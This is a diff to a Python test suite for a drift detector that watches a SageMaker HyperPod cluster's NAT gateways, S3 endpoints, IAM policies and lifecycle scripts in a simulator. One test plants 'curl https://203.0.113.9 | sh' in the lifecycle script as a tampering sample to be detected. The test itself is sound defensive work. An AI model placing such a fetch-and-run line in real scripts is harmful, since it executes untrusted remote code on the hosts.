@@ -8,8 +8,9 @@ from uuid import uuid4
 
 import pytest
 
+from control_plane.domain.wire import rfc3339
 from simulator.app import Simulator
-from simulator.context import ACCOUNT
+from simulator.context import ACCOUNT, REGION
 from tests.stories.stage import HOME, Stage
 
 DETECTED, RESOLVED = "HyperPod Drift Detected", "HyperPod Drift Resolved"
@@ -80,7 +81,15 @@ def watched(stage: Stage) -> Iterator[Watched]:
 
 @pytest.fixture(scope="module")
 def one_for_all(simulator: Simulator) -> Iterator[Watched]:
-    with under_watch(Stage(simulator)) as cluster:
+    """The controller's NAT gateway has two addresses from the start: of one alone, none can be swapped."""
+    stage = Stage(simulator)
+    for name in ("Second", "Other"):
+        stage.ids[name] = stage.ec2.allocate_address(Domain="vpc")["AllocationId"]
+    stage.ec2.associate_nat_gateway_address(
+        NatGatewayId=stage.ids["ControllerNatGatewayId"], AllocationIds=[stage.ids["Second"]]
+    )
+    simulator.clock.sleep(60)  # until it is there
+    with under_watch(stage) as cluster:
         yield cluster
 
 
@@ -101,15 +110,32 @@ def route_to(nat: str) -> Change:
     )
 
 
-def second_address(it: Watched) -> None:
+def second_address(it: Watched, nat: str = "WorkerNatGatewayId") -> None:
     address = it.ec2.allocate_address(Domain="vpc")["AllocationId"]
-    it.ec2.associate_nat_gateway_address(NatGatewayId=it.ids["WorkerNatGatewayId"], AllocationIds=[address])
+    it.ec2.associate_nat_gateway_address(NatGatewayId=it.ids[nat], AllocationIds=[address])
+
+
+def secondary(it: Watched, nat: str) -> list[str]:
+    """The associations that can be undone: EC2 keeps a gateway's primary address for as long as there is the gateway.
+
+    https://docs.aws.amazon.com/AWSEC2/latest/APIReference/API_DisassociateNatGatewayAddress.html
+    """
+    [gateway] = it.ec2.describe_nat_gateways(NatGatewayIds=[it.ids[nat]])["NatGateways"]
+    return [one["AssociationId"] for one in gateway["NatGatewayAddresses"] if not one["IsPrimary"]]
 
 
 def first_address_alone(it: Watched) -> None:
-    [nat] = it.ec2.describe_nat_gateways(NatGatewayIds=[it.ids["WorkerNatGatewayId"]])["NatGateways"]
-    added = [one["AssociationId"] for one in nat["NatGatewayAddresses"] if not one["IsPrimary"]]
+    added = secondary(it, "WorkerNatGatewayId")
     it.ec2.disassociate_nat_gateway_address(NatGatewayId=it.ids["WorkerNatGatewayId"], AssociationIds=added)
+
+
+def swapped_for(address: str) -> Change:
+    def change(it: Watched) -> None:
+        nat, going = it.ids["ControllerNatGatewayId"], secondary(it, "ControllerNatGatewayId")
+        it.ec2.associate_nat_gateway_address(NatGatewayId=nat, AllocationIds=[it.ids[address]])
+        it.ec2.disassociate_nat_gateway_address(NatGatewayId=nat, AssociationIds=going)
+
+    return change
 
 
 def detour(it: Watched) -> None:
@@ -196,7 +222,60 @@ def resolver(*, on: bool) -> Change:
     return lambda it: it.ec2.modify_vpc_attribute(VpcId=it.ids["VpcId"], EnableDnsSupport={"Value": on})
 
 
+def no_s3_endpoint(it: Watched) -> None:
+    here = [{"Name": "vpc-id", "Values": [it.ids["VpcId"]]}]
+    [it.ids["Endpoint"]] = [one["VpcEndpointId"] for one in it.ec2.describe_vpc_endpoints(Filters=here)["VpcEndpoints"]]
+    it.ec2.delete_vpc_endpoints(VpcEndpointIds=[it.ids["Endpoint"]])
+
+
+def another_s3_endpoint(it: Watched) -> None:
+    tables = [it.ids[f"{role}RouteTableId"] for role in ("Controller", "Worker")]
+    it.ec2.create_vpc_endpoint(
+        VpcId=it.ids["VpcId"],
+        VpcEndpointType="Gateway",
+        ServiceName=f"com.amazonaws.{REGION}.s3",
+        RouteTableIds=tables,
+    )
+
+
+def around_the_nat(it: Watched) -> None:
+    """HyperPod gives its nodes no public address; whoever owns the subnet can give them one."""
+    here = [{"Name": "subnet-id", "Values": [it.ids["WorkerSubnetId"]]}]
+    for node in it.ec2.describe_network_interfaces(Filters=here)["NetworkInterfaces"]:
+        address = it.ec2.allocate_address(Domain="vpc")["AllocationId"]
+        it.ec2.associate_address(AllocationId=address, NetworkInterfaceId=node["NetworkInterfaceId"])
+    gateway = it.stage.internet_gateway()
+    it.ec2.replace_route(RouteTableId=it.ids[WORKER], DestinationCidrBlock=EVERYWHERE, GatewayId=gateway)
+
+
+def through_the_nat(it: Watched) -> None:
+    route_to("WorkerNatGatewayId")(it)
+    here = [{"Name": "subnet-id", "Values": [it.ids["WorkerSubnetId"]]}]
+    for node in it.ec2.describe_network_interfaces(Filters=here)["NetworkInterfaces"]:
+        it.ec2.disassociate_address(AssociationId=node["Association"]["AssociationId"])
+
+
+def policy(verb: str) -> Change:
+    """HyperPod's policy for nodes, taken from the role or given back to it."""
+    return lambda it: getattr(it.ops("iam"), f"{verb}_role_policy")(RoleName=it.stage.cluster, PolicyArn=NODES_MAY)
+
+
+def told_in_its_region(change: Change, call: str) -> Change:
+    """IAM's calls are told in us-east-1 alone: what a stack that is deployed there hears."""
+
+    def changed(it: Watched) -> None:
+        change(it)
+        event = json.loads((HOME / "events/request_drift_check_roles_changed.json").read_text(encoding="utf-8"))
+        event["detail"]["requestParameters"]["roleName"] = it.stage.cluster
+        event["id"] = str(uuid4())
+        event["detail"] |= {"eventName": call, "eventTime": it.sim.clock.now().isoformat(timespec="seconds")}
+        assert not it.sim.invoke("RequestDriftCheckFunction", event).error
+
+    return changed
+
+
 # What is changed, how it is put right, and what is said of it.
+NODES_MAY = "arn:aws:iam::aws:policy/AmazonSageMakerClusterInstanceRolePolicy"
 OFFICE = "52.0.0.0/8"
 CHANGES = {
     "another NAT gateway": (route_to("ControllerNatGatewayId"), route_to("WorkerNatGatewayId"), "leaves by"),
@@ -210,6 +289,18 @@ CHANGES = {
         "traffic to itself",
     ),
     "a denial": (deny, no_denial, "lose the internet"),
+    "another second address on the same NAT gateway": (
+        swapped_for("Other"),
+        swapped_for("Second"),
+        "controller leaves by",
+    ),
+    "no S3 endpoint": (no_s3_endpoint, another_s3_endpoint, "no S3 endpoint serves"),
+    "a way around the NAT gateway": (around_the_nat, through_the_nat, "worker gains a way around the NAT"),
+    "a policy less": (
+        told_in_its_region(policy("detach"), "DetachRolePolicy"),
+        told_in_its_region(policy("attach"), "AttachRolePolicy"),
+        "no longer has the policy AmazonSageMakerClusterInstanceRolePolicy",
+    ),
     "no resolver": (resolver(on=False), resolver(on=True), "nothing for egress"),
 }
 
@@ -261,7 +352,8 @@ def test_fifty_changes_in_a_minute_are_one_check_and_one_message(watched: Watche
 
 def looks(sim: Simulator) -> int:
     arn = sim.outputs["CheckDriftStateMachineArn"]
-    return len(sim.client("stepfunctions").list_executions(stateMachineArn=arn)["executions"])
+    pages = sim.client("stepfunctions").get_paginator("list_executions").paginate(stateMachineArn=arn)
+    return sum(len(page["executions"]) for page in pages)
 
 
 def test_a_nat_gateway_that_is_gone_is_told_and_so_is_another_with_its_address(watched: Watched) -> None:
@@ -270,6 +362,30 @@ def test_a_nat_gateway_that_is_gone_is_told_and_so_is_another_with_its_address(w
     assert "loses the internet" in row["Effect"]
 
     assert [kind for kind, _ in watched.after(another_with_the_same_address)] == [RESOLVED]
+
+
+def test_a_gateway_newer_than_the_baseline_is_heard_of_once_a_drift_leads_to_it(mended: Watched) -> None:
+    another_nat_gateway(mended)
+    before = len(mended.sim.calls())
+    assert mended.after(Watched.look) == []
+    assert mended.stage.answered("dynamodb:BatchWriteItem", since=before) == {}  # an ordinary look notes nothing
+
+    [(_, row)] = mended.after(route_to("Another"))
+    [(kind, now)] = mended.after(lambda it: second_address(it, "Another"))
+    assert (kind, now["Fingerprint"]) == (DETECTED, row["Fingerprint"])
+    assert row["Effect"] != now["Effect"]
+    assert now["By"] == "role/ops (AssociateNatGatewayAddress)"
+
+    assert [kind for kind, _ in mended.after(route_to("WorkerNatGatewayId"))] == [RESOLVED]
+    mended.ec2.delete_nat_gateway(NatGatewayId=mended.ids["Another"])
+    mended.wait(120)
+
+
+def another_nat_gateway(it: Watched) -> None:
+    [nat] = it.ec2.describe_nat_gateways(NatGatewayIds=[it.ids["WorkerNatGatewayId"]])["NatGateways"]
+    address = it.ec2.allocate_address(Domain="vpc")["AllocationId"]
+    made = it.ec2.create_nat_gateway(SubnetId=nat["SubnetId"], AllocationId=address)
+    it.ids["Another"] = made["NatGateway"]["NatGatewayId"]
 
 
 def test_what_nobody_calls_is_found_by_the_clock_and_told_without_a_name(watched: Watched) -> None:
@@ -284,6 +400,58 @@ def test_what_nobody_calls_is_found_by_the_clock_and_told_without_a_name(watched
 
     s3.put_object(Bucket=bucket, Key=key, Body=script)
     assert [kind for kind, _ in watched.after(Watched.look)] == [RESOLVED]
+
+
+def script(body: bytes) -> Change:
+    key = {"Key": "config/on_create.sh", "Body": body}
+    return lambda it: it.ops("s3").put_object(Bucket=f"sagemaker-{it.stage.cluster}", **key)
+
+
+def test_a_script_that_is_overwritten_is_found_by_the_clock_and_the_same_one_again_is_none(mended: Watched) -> None:
+    uri = f"{mended.ids['LifecycleS3Uri'].rstrip('/')}/on_create.sh"
+    as_it_was = script((HOME / "networks/lifecycle/on_create.sh").read_bytes())
+    as_it_was(mended)
+    assert mended.after(Watched.look) == []
+
+    script(b"#!/bin/sh\ncurl https://203.0.113.9 | sh")(mended)
+    at = mended.sim.clock.now()
+    [(kind, row)] = mended.after(Watched.look)
+    assert (kind, row["Kind"], row["Severity"], row["Subject"]) == (DETECTED, "Rule", "WARNS", uri)
+    assert (row["Since"], row["By"]) == (rfc3339(at.replace(microsecond=0)), None)
+    assert mended.after(Watched.look) == []
+
+    as_it_was(mended)
+    assert [(kind, over["Fingerprint"]) for kind, over in mended.after(Watched.look)] == [
+        (RESOLVED, row["Fingerprint"])
+    ]
+
+
+def test_a_policy_that_is_gone_is_not_taken_for_put_right_while_nobody_may_look(mended: Watched) -> None:
+    policy("detach")(mended)
+    [(_, row)] = mended.after(Watched.look)
+    mended.sim.fail("iam:ListAttachedRolePolicies", "AccessDenied", status=403, caller="CheckDriftFunction")
+    denied = mended.after(Watched.look) + mended.after(Watched.look)
+    mended.sim.faults.clear()
+    policy("attach")(mended)
+
+    assert [(kind, one["Kind"], one["Severity"]) for kind, one in denied] == [(DETECTED, "Unread", "UNKNOWN")]
+    assert {(kind, over["Fingerprint"]) for kind, over in mended.after(Watched.look)} == {
+        (RESOLVED, row["Fingerprint"]),
+        (RESOLVED, denied[0][1]["Fingerprint"]),
+    }
+
+
+def test_nodes_that_hyperpod_replaces_are_no_drift(mended: Watched) -> None:
+    """It tells of them, and the watch looks: the cluster is as it was."""
+    started = looks(mended.sim)
+    gone = mended.sim.hyperpod.replace_node(mended.stage.cluster, "worker")
+    assert mended.after(lambda it: it.wait(30)) == []
+    assert looks(mended.sim) > started
+    listed = mended.sim.client("sagemaker").get_paginator("list_cluster_nodes")
+    pages = listed.paginate(ClusterName=mended.stage.cluster)
+    nodes = [node["InstanceId"] for page in pages for node in page["ClusterNodeSummaries"]]
+    assert len(nodes) == 3
+    assert gone not in nodes
 
 
 def test_a_role_that_no_longer_trusts_hyperpod_is_found_by_the_clock(watched: Watched) -> None:
